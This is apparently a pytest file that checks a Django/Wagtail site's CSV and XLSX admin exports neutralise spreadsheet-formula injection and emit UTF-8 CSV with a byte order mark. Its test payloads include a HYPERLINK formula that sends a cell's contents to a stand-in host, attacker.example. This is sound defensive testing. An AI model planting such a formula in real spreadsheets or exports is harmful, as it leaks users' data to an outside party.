"""Admin exports: no cell a spreadsheet would run as a formula, and CSV that reads as UTF-8."""

import csv
import io

import pytest
from openpyxl import load_workbook

from approaches.factories import ApproachPageFactory, ConditionFactory
from core.plumbing.exports import BYTE_ORDER_MARK, neutralise
from tests.core.test_governance import REPORTS, member, registered_reports, snippet_url

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
DANGEROUS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(BYTE_ORDER_MARK.encode()), "spreadsheet programs need the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def formula_cells(rows) -> list:
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_run_as_a_formula_becomes_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Low mood", "", "3 - 4 weeks", -3, 2.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value


@pytest.mark.django_db
def test_a_condition_named_as_a_formula_exports_as_text(admin_client):
    ConditionFactory(name=FORMULA, slug="formula", description="-1+2 @everyone")
    ConditionFactory(name="Partner’s worry", slug="worry", description="\t=1+1")
    url = snippet_url("approaches.condition", "list")

    response = admin_client.get(url, {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert formula_cells(rows) == []
    assert ["'" + FORMULA, "formula", "'-1+2 @everyone"] in rows
    assert ["Partner’s worry", "worry", "'\t=1+1"] in rows  # the curly apostrophe survives

    rows = xlsx_rows(admin_client.get(url, {"export": "xlsx"}))
    assert formula_cells(rows) == []
    assert ["'" + FORMULA, "formula", "'-1+2 @everyone"] in rows


@pytest.mark.django_db
@pytest.mark.parametrize("report", sorted(REPORTS))
def test_every_report_exports_formulas_as_text_in_utf8_csv(client, index, quiz, report):
    page = ApproachPageFactory(parent=index, title=FORMULA, slug="formula")
    page.save_revision(user=None, log_action=True).publish()
    client.force_login(member("Site admins"))

    response = client.get(registered_reports()[report], {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert formula_cells(csv_rows(response)) == []
    assert formula_cells(xlsx_rows(client.get(registered_reports()[report], {"export": "xlsx"}))) == []


@pytest.mark.django_db
def test_content_health_shows_the_formula_title_as_text(admin_client, index):
    ApproachPageFactory(parent=index, title=FORMULA, slug="formula")
    rows = csv_rows(admin_client.get(registered_reports()["content-health"], {"export": "csv"}))
    assert "'" + FORMULA in [row[0] for row in rows]
